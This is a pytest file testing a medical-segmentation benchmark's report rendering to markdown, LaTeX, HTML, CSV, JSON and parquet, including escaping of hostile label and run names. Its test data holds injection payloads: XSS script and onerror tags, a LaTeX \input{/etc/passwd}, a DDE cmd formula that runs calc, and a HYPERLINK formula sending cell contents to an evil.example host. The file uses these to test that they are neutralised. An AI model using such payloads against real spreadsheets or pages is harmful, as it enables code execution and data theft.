"""Every format says the same: tied places in the ranking across tasks, metrics that older runs lack."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
from rich.console import Console

from medseg_bench.report import Report, build_report, print_rich, render, report_from_results
from medseg_bench.results import load_results
from tests.report.fake_results import drop_metric_column, with_tied_ranking

TIED = [("1", "3d-unet-dice_ce-light"), ("2.5", "2d-unet.resnet18-dice_ce-none"),
        ("2.5", "3d-unet-dice-none")]


def _terminal(report: Report) -> str:
    buffer = io.StringIO()
    print_rich(report, Console(file=buffer, width=200, force_terminal=False))
    return buffer.getvalue()


@pytest.mark.parametrize("top", [None, 1, 2])
def test_tied_configurations_share_their_place_in_every_format(fake_results: Path, top: int | None) -> None:
    report = report_from_results(with_tied_ranking(load_results(fake_results)), fake_results,
                                 metrics=["dice"], top=top)
    shown = TIED[:{None: 3, 1: 1, 2: 3}[top]]  # --top 2 keeps both tied second
    markdown, latex, page = (render(report, fmt, {}) for fmt in ("markdown", "latex", "html"))
    assert isinstance(markdown, str) and isinstance(latex, str) and isinstance(page, str)
    ranking = markdown.split("## Ranking across tasks")[1]
    assert [line.split(" | ")[:2] for line in ranking.splitlines() if line.startswith("| ")][1:] == \
        [[f"| {place}", config] for place, config in shown]
    for place, config in shown:
        assert f"{place} & {config.replace('_', chr(92) + '_')} & " in latex
        assert f'<tr><td class="r">{place}</td><td>{config}</td>' in page
    terminal = _terminal(report).split("Ranking across tasks")[1]
    assert [line.split()[:2] for line in terminal.splitlines() if "unet" in line] == [list(p) for p in shown]
    data = json.loads(render(report, "json"))  # type: ignore[arg-type]
    assert [(r["rank"], r["config"]) for r in data["ranking"]] == [(float(p), c) for p, c in shown]
    assert [r["mean_rank"] for r in data["ranking"]] == [1, 2.5, 2.5][:len(shown)]  # the numbers as they were
    # CSV and parquet hold the leaderboard only: each row carries its configuration's place across tasks, from
    # the ranking of every configuration, also one --top leaves out of the ranking
    flat = pd.read_csv(io.StringIO(render(report, "csv")))  # type: ignore[arg-type]
    places = dict((config, float(place)) for place, config in TIED)
    assert dict(zip(flat["config"], flat["cross_task_rank"], strict=True)) == {
        config: places[config] for config in flat["config"]}
    parquet = pd.read_parquet(io.BytesIO(render(report, "parquet")))  # type: ignore[arg-type]
    assert parquet["cross_task_mean_rank"].tolist() == flat["cross_task_mean_rank"].tolist()
    if top == 1:  # untied, Task91_Beta's best is second across tasks: a place --top 1 does not list
        untied = report_from_results(load_results(fake_results), fake_results, metrics=["dice"], top=1)
        flat = pd.read_csv(io.StringIO(render(untied, "csv")))  # type: ignore[arg-type]
        assert flat["cross_task_rank"].tolist() == [1, 2] and untied.ranking["rank"].tolist() == [1]


def test_a_metric_older_runs_lack_is_named_with_how_to_score_them_again(fake_results: Path,
                                                                         tmp_path: Path) -> None:
    results = tmp_path / "results"
    shutil.copytree(fake_results, results)
    for folder in (results / "Task90_Alpha").glob("3d-unet-dice-none-*"):  # both of its runs
        drop_metric_column(folder, "nsd")
    drop_metric_column(sorted((results / "Task91_Beta").glob("2d-*"))[0], "nsd")  # one of its two
    report = build_report(results)
    alpha = ("Runs scored before a metric existed have no column for it in their metrics.csv: "
             "3d-unet-dice-none: NSD (all 2 runs). Where every run of a configuration lacks a metric, it "
             "shows – and ranks last on it. `medseg-bench evaluate --pred RUN/predictions --ref labelsTr "
             "--allow-missing --task Task90_Alpha` scores the predictions of such a run on every metric, "
             "apart from this report, which reads the metrics.csv of each run as it is.")
    beta = ("metrics.csv: 2d-unet.resnet18-dice_ce-none: NSD (1 of 2 runs). Where only some runs of a "
            "configuration lack a metric, its score comes from the others. `medseg-bench")
    markdown, latex, page = (render(report, fmt, {}) for fmt in ("markdown", "latex", "html"))
    assert isinstance(markdown, str) and isinstance(latex, str) and isinstance(page, str)
    assert markdown.count(alpha) == latex.count(f"% {alpha}") == page.count(alpha) == 1
    assert markdown.count(beta) == latex.count(beta) == page.count(beta) == 1
    assert " ".join(_terminal(report).split()).count(alpha) == 1  # rich wraps long lines
    lines = markdown.splitlines()
    nsd = next(line for line in lines if line.startswith("| # |")).split(" | ").index("NSD")
    row = next(line for line in lines if "| 3d-unet-dice-none |" in line)  # Task90_Alpha's leaderboard
    assert row.split(" | ")[nsd] == "–"
    absent = json.loads(render(report, "json"))["provenance"]["absent_metrics"]  # type: ignore[arg-type]
    assert absent == {"Task90_Alpha": {"3d-unet-dice-none": {"nsd": [2, 2]}},
                      "Task91_Beta": {"2d-unet.resnet18-dice_ce-none": {"nsd": [1, 2]}}}
    assert "no column for it" not in render(build_report(fake_results), "markdown")
    assert json.loads(render(build_report(fake_results), "json"))["provenance"]["absent_metrics"] == {}  # type: ignore[arg-type]


HOSTILE = '<script>alert(1)</script>"><img src=x onerror=alert(1)> a|b\n\n\\input{/etc/passwd}\n# | x |'


def test_names_from_task_files_keep_every_table_whole(fake_results: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A label name with line breaks ended markdown table rows and put a blank line (an error) and a line of
    its own choosing into a LaTeX tabular; markdown passed its HTML tags through to the rendered page."""
    import re

    from tests.conftest import write_task_file

    home = tmp_path / "home"
    monkeypatch.setenv("MEDSEG_BENCH_HOME", str(home))
    for task in ("Task90_Alpha", "Task91_Beta"):
        write_task_file(home, task, labels={0: "background", 1: HOSTILE, 2: "core"})
    report = build_report(fake_results)
    markdown, latex, page = (render(report, fmt, {}) for fmt in ("markdown", "latex", "html"))
    assert isinstance(markdown, str) and isinstance(latex, str) and isinstance(page, str)
    assert "| Dice \\<script>alert(1)\\</script>\">\\<img src=x onerror=alert(1)> a\\|b" in markdown
    assert not re.search(r"(?<!\\)<(script|img)", markdown)
    tables = re.findall(r"(?:^\|.*\n)+", markdown, flags=re.MULTILINE)
    assert tables
    for table in tables:
        pipes = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert len(pipes) == 1, table
    assert "\\input" not in latex.replace("\\textbackslash{}input", "")
    for body in re.findall(r"\\begin\{tabular\}\{(\w+)\}\n(.*?)\\end\{tabular\}", latex, flags=re.DOTALL):
        columns, rows = body
        assert "\n\n" not in rows
        assert {row.count(" & ") for row in rows.splitlines() if row.endswith("\\\\")} == {len(columns) - 1}
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_markdown_shows_names_as_they_are_written(monkeypatch: pytest.MonkeyPatch) -> None:
    """A label named `**bold** [l](http://x.y) `c` &amp; $x$_%` rendered on GitHub as bold text, a live link,
    code, `&` and math: names are escaped; the report's own notes keep their code spans."""
    from medseg_bench.report import formats
    from medseg_bench.report.display import Cell, Section, Table

    name = "**bold** [l](http://x.y) `c` &amp; $x$_% ~s~ a\\b dice_ce _e_"
    escaped = r"\*\*bold\*\* [l\](http://x.y) \`c\` \&amp; \$x\$\_% \~s\~ a\\b dice_ce \_e\_"
    assert formats.md_text(name) == escaped
    interval = "0.873 ± 0.012 [0.851, 0.894]"
    assert formats.md_text(interval) == interval  # numbers as they are
    table = Table([f"Dice {name}"], [[Cell(name, best=True)]], ["l"], caption=name)
    monkeypatch.setattr(formats, "sections",
                        lambda report, **_: [Section(name, 2, ["run `medseg-bench x`", table])])
    markdown = formats.to_markdown(None)  # type: ignore[arg-type]
    assert f"## {escaped}\n" in markdown and f"**{escaped}**\n" in markdown
    assert f"| Dice {escaped} |" in markdown and f"| **{escaped}** |" in markdown
    assert "\nrun `medseg-bench x`\n" in markdown


def test_latex_escape_writes_every_special_character_as_one_that_prints() -> None:
    """`<`, `>` and `|` typed in LaTeX text print as ¡, ¿ and — (OT1 has no such glyphs); the ten characters
    LaTeX reads as commands are escaped; symbols of the report's own text are math."""
    from medseg_bench.report.formats import latex_escape

    assert latex_escape("p < 0.05 | n > 3") == r"p $<$ 0.05 $|$ n $>$ 3"
    assert latex_escape(r"a_b & 5% #1 $x {y} ~ ^ \ ") == \
        r"a\_b \& 5\% \#1 \$x \{y\} \textasciitilde{} \textasciicircum{} \textbackslash{} "
    assert latex_escape("0.81 ± 0.02, α = 0.05, χ², Δ ≥ 1 ≤ 2, 1–2") == \
        r"0.81 $\pm$ 0.02, $\alpha$ = 0.05, $\chi^2$, $\Delta$ $\geq$ 1 $\leq$ 2, 1--2"


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
CONTROLS = {"\t=1+1": "\\t=1+1", "\r=1+1": "\\r=1+1", "a\rb": "a\\rb"}  # escaped as where printed


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(fake_results: Path) -> None:
    """Names from run folders and task files (a task, a configuration, a run id) starting with `=`, `+`, `-`,
    `@`, tab or CR were formulas to Excel and LibreOffice (`=HYPERLINK(...)` sent a cell's neighbours away,
    DDE's `cmd|...` ran a program): such a cell is written with a leading `'` (OWASP's advice), which the
    spreadsheet shows as text; a CR, which pandas leaves unquoted (a spreadsheet's line break, in the middle
    of a row), is escaped as where names are printed. Numbers stay numbers, negative ones and one written as
    text included; parquet, for programs, keeps the names as they are."""
    import csv
    import dataclasses

    report = build_report(fake_results)
    table = report.table.copy()
    table["task"] = table["task"].astype(object)
    for row, name in enumerate([*FORMULAS, *CONTROLS]):
        table.loc[table.index[row % len(table)], ["task", "config", "arch"][row % 3]] = name
    table.loc[table.index[0], "encoder"] = "-0.25"  # a number as text: no formula a spreadsheet runs
    table["dice_mean"] = table["dice_mean"].astype(float)
    table.loc[table.index[0], "dice_mean"] = -0.5
    report = dataclasses.replace(report, table=table)
    text = render(report, "csv")
    assert isinstance(text, str) and "\r" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {len(row) for row in rows} == {len(table.columns)}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    for name in FORMULAS:
        assert "'" + name in cells
    assert set(CONTROLS.values()) <= set(cells)
    assert [cell for cell in cells if cell.startswith("-")] == ["-0.25", "-0.5"]
    assert rows[0]["encoder"] == "-0.25" and float(rows[0]["dice_mean"]) == -0.5
    parquet = pd.read_parquet(io.BytesIO(render(report, "parquet")))  # type: ignore[arg-type]
    assert {*FORMULAS, *CONTROLS} <= set(parquet[["task", "config", "arch"]].to_numpy().ravel())


def test_latex_labels_stay_unique_when_captions_share_their_first_60_characters(
        fake_results: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # labels are the caption's first 60 characters: two tasks of long names alike that far had one \label
    # (LaTeX: "multiply defined", a \ref pointing at the wrong table)
    import re

    from medseg_bench.report import formats
    from medseg_bench.report.display import Cell, Section, Table

    long = "Task90_" + "A" * 70
    table = Table(["configuration"], [[Cell("3d unet")]], ["l"])
    monkeypatch.setattr(formats, "sections", lambda report: [
        Section(f"{long}1 leaderboard", items=[table]), Section(f"{long}2 leaderboard", items=[table]),
        Section(f"{long}3 leaderboard", items=[table])])
    latex = formats.to_latex(build_report(fake_results))
    labels = re.findall(r"\\label\{(.*?)\}", latex)
    slug = "tab:task90-" + "a" * 53
    assert labels == [slug, f"{slug}-2", f"{slug}-3"]


def test_a_task_file_the_catalog_cannot_load_stops_the_report(fake_results: Path, tmp_path: Path) -> None:
    """One bad file among the user's task files (of a task without runs) made every task's label names
    missing: each table headed by label values, exit 0, without a word; `list tasks` stops on it."""
    from medseg_bench.errors import UsageError
    from tests.conftest import write_task_file

    write_task_file(tmp_path / "home", "Task90_Alpha", labels={0: "background", 1: "edema", 2: "core"})
    bad = tmp_path / "home" / "tasks" / "Task80_Bad.yaml"
    bad.write_text("name: Task80_Bad\nlabels:\n  0: background\n")
    with pytest.raises(UsageError, match=f"^{bad}: "):
        build_report(fake_results)
    bad.unlink()
    assert build_report(fake_results).label_names == {"Task90_Alpha": {"0": "background", "1": "edema",
                                                                       "2": "core"}}


def test_parameter_counts_stay_whole_numbers_where_a_configuration_has_none(fake_results: Path) -> None:
    # one configuration without a count (a summary.json's `cost.params: null`) made the column float: CSV
    # wrote 4812345 as 4.81234e+06, JSON as 4812345.0
    results = load_results(fake_results)
    results["params"] = results["params"].astype(float)
    first = results["dims"] == "2d"  # the 2D runs: no count
    results.loc[first, "params"] = float("nan")
    results.loc[~first, "params"] = 4_812_345.0
    report = report_from_results(results, fake_results, metrics=["dice"])
    flat = pd.read_csv(io.StringIO(render(report, "csv")), dtype={"params": str})  # type: ignore[arg-type]
    assert set(flat["params"].fillna("")) == {"", "4812345"}
    data = json.loads(render(report, "json"))  # type: ignore[arg-type]
    assert {row["params"] for row in data["leaderboard"]} == {None, 4812345}
    assert all(isinstance(row["params"], (int, type(None))) for row in data["leaderboard"])
    parquet = pd.read_parquet(io.BytesIO(render(report, "parquet")))  # type: ignore[arg-type]
    assert set(parquet["params"].dropna().tolist()) == {4812345}


def test_markdown_notes_show_the_names_in_them_as_written(fake_results: Path) -> None:
    """A configuration or region named `**x** [l](http://e.x) &amp;` was escaped in the tables but rendered
    bold, as a live link and as `&` in the notes (metric settings, the paired tests, the cases left out)."""
    hostile = "**x** [l](http://e.x) &amp;"
    results = load_results(fake_results)
    mine = results["loss"] == "dice"  # Task90_Alpha's 3d-unet-dice-none
    results.loc[mine, "loss"] = hostile
    results.loc[mine, "dice"] += 0.1  # the winner: its name opens the paired tests' note
    others = (results["task"] == "Task90_Alpha") & ~mine
    results = results[~(others & (results["case"] == "case_000"))]  # a case only it has: left out
    report = report_from_results(results, fake_results, metrics=["dice"])
    regions = [{"name": hostile, "labels": [1]}]
    report.provenance["metric_conventions"]["Task90_Alpha"] = [{"regions": regions}]
    markdown = render(report, "markdown")
    assert isinstance(markdown, str)
    written = r"\*\*x\*\* [l\](http://e.x) \&amp;"
    escaped = f"3d-unet-{written}-none"
    assert hostile not in markdown
    assert f"Metric settings: regions=({written}: 1)." in markdown
    assert f"Paired Wilcoxon signed-rank tests of {escaped} against" in markdown
    assert f"(cases left out: {escaped}: 1)." in markdown
    page = render(report, "html", {})
    assert isinstance(page, str) and f"tests of 3d-unet-{hostile.replace('&', '&amp;')}-none" in page
